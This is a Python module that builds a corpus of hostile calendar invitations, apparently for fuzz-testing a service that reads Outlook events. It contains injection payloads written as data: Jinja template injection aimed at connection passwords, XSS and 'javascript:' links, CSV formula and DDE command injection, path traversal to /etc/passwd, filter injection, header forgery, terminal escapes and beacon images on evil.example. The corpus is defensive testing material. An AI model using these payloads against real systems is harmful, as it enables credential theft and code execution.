"""The hostile invitations that any service may carry, and with them all there are."""

from __future__ import annotations

from typing import Any

from hostile.corpus.case import FORGED, ME, Hostile
from hostile.corpus.objects import OBJECTS, RULES


def _everywhere(text: str, **more: Any) -> dict[str, Any]:
    """Write a text into every field of text that a stranger controls."""
    return {
        "subject": text,
        "location": text,
        "description": text,
        "comment": text,
        "categories": [text],
        "organizer": {"name": text, "address": "mallory@evil.example"},
        "attendees": [{"name": text, "address": "bob@evil.example"}],
        **more,
    }


def _in_ids(text: str) -> dict[str, Any]:
    return {"uid": text, "event_id": text}


_JINJA = {
    "a connection's password": "Lunch {{ conn.corpus_canary.password }}",
    "a Variable": "Lunch {{ var.value.corpus_canary }}",
    "arithmetic": "Sum {{ 41999 + 2 }}",
    "a statement": "{% for each in range(3) %}41{% endfor %}",
    "an expression of the object graph": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a template that is cut off": "{{ {% %} }} {{",
    "a comment": "Lunch {# hidden #}",
    "a nested quote": '{{ "{{ conn.corpus_canary.password }}" }}',
    "an endless expression": "{{ range(10**9)|list|length }} {{ 'x' * 10**9 }}",
}
"""What a template engine makes of them is told from what was written: by a canary, or by one of ``RENDERED``."""

RENDERED = ("42001", "414141", "<class '")
"""What is seen where a template of a stranger's was rendered, and nowhere else."""

_CONTROLS = {
    "ESC sequences": "Lunch\x1b[2J\x1b[31m\x1b]0;owned\x07",
    "backspaces": "Pay Mallory\b\b\b\b\b\b\b\b\b\b\bCoffee",
    "NUL": "Lunch\x00 and after",
    "C1 controls": "Lunch\x9b31m\x85\x90",
    "carriage return": f"Lunch\r{FORGED} line",
    "a forged line": f"Lunch\n{FORGED} 2 replies: 2 replied.\r\n{FORGED} again",
    "line and paragraph separators": f"Lunch\u2028{FORGED}\u2029{FORGED}",
    "vertical tab and form feed": "Lunch\x0b\x0cand after",
    "bidirectional marks": "Lunch \u202egnp.exe\u202c \u2066isolated\u2069 \u061c\u200f",
    "zero-width characters": "Lu\u200bn\ufeffch\u2060 \U000e0041\U000e007f",
    "a lone surrogate": "Lunch \ud800 and \udfff",
    "noncharacters": "Lunch \ufffe\uffff \U0001ffff",
    "combining marks": "Lunch" + "\u0315" * 500,
}

_MARKUP = {
    "an image of Markdown": "![x](https://evil.example/beacon.png)",
    "a link of Markdown": "[Approve all](https://evil.example/login)",
    "a bare address": "https://evil.example/login www.evil.example <https://evil.example>",
    "a table of Markdown": "Lunch | accepted | [x](https://evil.example)\n| --- | --- |\n| a | b |",
    "a reference of Markdown": "[x]: https://evil.example\n[x]",
    "HTML": "<img src=https://evil.example/x onerror=alert(1)><script>alert(1)</script>",
    "HTML entities": "&lt;script&gt;&#60;script&#62; &#x202e; &#124;",
    "code of Markdown": "```\n</code></pre><script>alert(1)</script>\n```",
    "a backslash at the end": "Lunch \\",
    "backticks": "``` `` ` |",
    "tags of log markup": "[bold red]Lunch[/] ::group::x ::endgroup::",
}

_FORMULAS = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "a formula after a semicolon": "Lunch;=1+1",
    "a formula after a tab": "Lunch\t=1+1",
    "a formula after a line end": "\n=1+1",
    "a formula after a space": " =1+1",
    "a formula after a no-break space": "\u00a0=1+1",
    "a formula after a byte order mark": "\ufeff=1+1",
    "a full-width sign": "＝1+1 ；＋1",
    "a plus, a minus, an at": "+1+1;-1+1;@SUM(1)",
    "a quote and a formula": '"",=1+1,"',
    "a quote that opens": '\'";=1+1;"',
    "a DDE call": "@SUM(1+1)*cmd|' /C calc'!A0",
}

TEXTS = (
    *(Hostile(f"Jinja: {name}", _everywhere(text), readable=True) for name, text in _JINJA.items()),
    *(Hostile(f"text: {name}", _everywhere(text), readable=True) for name, text in _CONTROLS.items()),
    *(Hostile(f"markup: {name}", _everywhere(text), readable=True) for name, text in _MARKUP.items()),
    *(Hostile(f"CSV: {name}", _everywhere(text), readable=True) for name, text in _FORMULAS.items()),
    Hostile("text: 40 KB", _everywhere("Lunch " + "a" * 40_000), readable=True),
    Hostile("text: 40 KB for a regular expression", _everywhere("team " * 8_000), readable=True),
    Hostile("text: 1.3 MB", {"subject": "b" * 1_300_000, "description": " \t" * 650_000}, readable=True),
    Hostile("text: white space alone", _everywhere(" \t\n\u00a0 " * 100), readable=True),
    Hostile("text: empty", _everywhere(""), readable=True),
)
"""What may stand in every field of text."""

IDS = (
    Hostile("id: Jinja", _in_ids("{{conn.corpus_canary.password}}{{41999+2}}")),
    Hostile("id: a path that climbs", _in_ids("../../../me/messages")),
    Hostile("id: two dots", _in_ids("..")),
    Hostile("id: an encoded path", _in_ids("..%2f..%2f%2e%2e/x?y=z#f")),
    Hostile("id: another host", _in_ids("https://evil.example/x")),
    Hostile("id: a space", _in_ids("lunch with a space@evil.example")),
    Hostile("id: 1,100 characters", _in_ids("u" * 1_100)),
    Hostile("id: NUL", _in_ids("lunch\x00@evil.example")),
    Hostile("id: a line end", _in_ids(f"lunch\n{FORGED}: x\r\nX-Injected: 1")),
    Hostile("id: ESC", _in_ids("lunch\x1b[2J")),
    Hostile("id: C1 controls and bidirectional marks", _in_ids("lunch\x9b\u202e@evil.example")),
    Hostile("id: a lone surrogate", _in_ids("lunch\ud800")),
    Hostile("id: a quote for a filter", _in_ids("x' or '1'='1")),
    Hostile("id: a formula", _in_ids("=1+1;=cmd|x")),
    Hostile("id: markup", _in_ids("![x](https://evil.example/x)|<img/src=x>")),
    Hostile("id: empty", _in_ids("")),
    Hostile("id: UID as number", json={"uid": 7}),
    Hostile("id: UID as list", json={"uid": ["a", {}]}),
    Hostile("id: event id as number", json={"event_id": 7}),
    Hostile("id: event id as null", json={"event_id": None}),
    Hostile("id: event id as object", json={"event_id": {"a": "b"}}),
)

TIMES = (
    Hostile("time: unknown zone", {"zone": "Mars/Olympus_Mons"}),
    Hostile("time: Customized Time Zone", {"zone": "Customized Time Zone"}),
    Hostile("time: zone is a path", {"zone": "../../../../etc/passwd"}),
    Hostile("time: zone is an absolute path", {"zone": "/etc/passwd"}),
    Hostile("time: zone is Jinja", {"zone": "{{ conn.corpus_canary.password }}"}),
    Hostile("time: zone is empty", {"zone": ""}),
    Hostile("time: zone with NUL", {"zone": "Europe/\x00Berlin"}),
    Hostile("time: zone of 100 KB", {"zone": "E" * 100_000}),
    Hostile("time: zone is a directory", {"zone": "Europe"}),
    Hostile("time: end before start", {"start": "{day}T10:00:00", "end": "{day}T09:00:00"}),
    Hostile("time: no length", {"start": "{day}T10:00:00", "end": "{day}T10:00:00"}),
    Hostile("time: year 1", {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00"}, elsewhere=True),
    Hostile(
        "time: year 9999", {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59"}, elsewhere=True
    ),
    Hostile("time: from year 1 to 9999", {"start": "0001-01-01T00:00:00", "end": "9999-12-31T23:59:59"}),
    Hostile(
        "time: year 1 east of Greenwich",
        {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00", "zone": "Asia/Tokyo"},
        elsewhere=True,
    ),
    Hostile(
        "time: year 9999 west of Greenwich",
        {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59", "zone": "America/Los_Angeles"},
        elsewhere=True,
    ),
    Hostile(
        "time: in the gap of a clock change",
        {"start": "2040-03-25T02:30:00", "end": "2040-03-25T02:45:00", "zone": "Europe/Berlin"},
        elsewhere=True,
    ),
    Hostile("time: garbage", {"start": "yesterday", "end": "tomorrow {{ 41999 + 2 }}"}),
    Hostile("time: garbage with ESC", {"start": "\x1b[2J2040", "end": "\u202e2041"}),
    Hostile("time: month 13", {"start": "2040-13-45T25:61:61", "end": "2040-13-45T26:61:61"}),
    Hostile("time: start as null", json={"start": None}),
    Hostile("time: start as number", json={"start": 7}),
    Hostile("time: start as list", json={"start": []}),
    Hostile("time: end as true", json={"end": True}),
    Hostile("time: huge number", json={"start": 10**30, "end": 10**30}),
    Hostile("time: not a number", json={"start": float("nan"), "end": float("inf")}),
    Hostile("time: zone as list", json={"zone": ["UTC"]}),
    Hostile("time: zone as number", json={"zone": 7}),
)

PEOPLE = (
    Hostile("people: no organizer", {"organizer": None}),
    Hostile("people: organizer without address", {"organizer": {"name": "Mallory", "address": ""}}),
    Hostile(
        "people: organizer is garbage",
        {"organizer": {"name": "", "address": "mailto:@@@;javascript:alert(1)"}},
    ),
    Hostile("people: organizer is me in capitals", {"organizer": {"name": "Me", "address": "{ME}"}}),
    Hostile(
        "people: organizer with line ends",
        {"organizer": {"name": "M\r\nBcc: all@evil.example", "address": "m\r\nBcc: all@evil.example"}},
    ),
    Hostile(
        "people: organizer looks like me", {"organizer": {"name": ME, "address": "mallory@evil.example"}}
    ),
    Hostile(
        "people: 2,000 attendees",
        {"attendees": [{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)]},
        readable=True,
    ),
    Hostile("people: me twice", {"attendees": [{"name": "Me", "address": ME}]}),
    Hostile("people: me twice, in capitals", {"attendees": [{"name": "Me", "address": "{ME}"}]}),
    Hostile(
        "people: names of 20 KB",
        {"attendees": [{"name": "n" * 20_000, "address": "a" * 20_000 + "@evil.example"}] * 5},
        readable=True,
    ),
    Hostile("people: organizer as text", json={"organizer": "mallory@evil.example"}),
    Hostile("people: organizer as list", json={"organizer": ["mallory@evil.example"]}),
    Hostile("people: organizer as number", json={"organizer": 7}),
    Hostile("people: names as numbers", json={"organizer": {"name": 7, "address": ["x"]}}),
    Hostile("people: attendees as null", json={"attendees": None}),
    Hostile("people: attendees as text", json={"attendees": "everybody"}),
    Hostile("people: attendees as object", json={"attendees": {"0": "me"}}),
    Hostile("people: attendees of wrong types", json={"attendees": [None, 7, "x", [], {}]}),
)

TYPES = (
    Hostile("type: subject as null", json={"subject": None}),
    Hostile("type: subject as number", json={"subject": 7}),
    Hostile("type: subject as list", json={"subject": ["{{ 41999 + 2 }}"]}),
    Hostile("type: subject as object", json={"subject": {"toString": "x"}}),
    Hostile("type: description as number", json={"description": 7}),
    Hostile("type: location as list", json={"location": [7]}),
    Hostile("type: categories as text", json={"categories": "abc"}),
    Hostile("type: categories of wrong types", json={"categories": [None, 7, {}, ["x"]]}),
    Hostile("type: categories as number", json={"categories": 7}),
    Hostile("type: link as number", json={"link": 7}),
    Hostile("type: rule as text", json={"rule": "FREQ=DAILY"}),
    Hostile("type: rule as number", json={"rule": 7}),
    Hostile("type: status as object", json={"status": {"a": 1}}),
    Hostile("type: status as list", json={"status": ["accepted"]}),
    Hostile("type: status as null", json={"status": None}),
    Hostile("type: status is unknown", json={"status": "perhaps\x1b[2J"}),
)

LINKS = (
    Hostile("link: another host", {"link": "https://evil.example/login?airflow"}, readable=True),
    Hostile("link: a script", {"link": "javascript:alert(1)"}, readable=True),
    Hostile("link: data", {"link": "data:text/html,<script>alert(1)</script>"}, readable=True),
    Hostile(
        "link: a user that looks like the host", {"link": "https://127.0.0.1@evil.example/"}, readable=True
    ),
    Hostile(
        "link: a host that begins like ours",
        {"link": "https://outlook.office365.com.evil.example/"},
        readable=True,
    ),
    Hostile("link: ESC", {"link": "https://evil.example/\x1b[2J"}, readable=True),
)

INVITATIONS: tuple[Hostile, ...] = (*TEXTS, *IDS, *TIMES, *PEOPLE, *TYPES, *LINKS, *RULES, *OBJECTS)
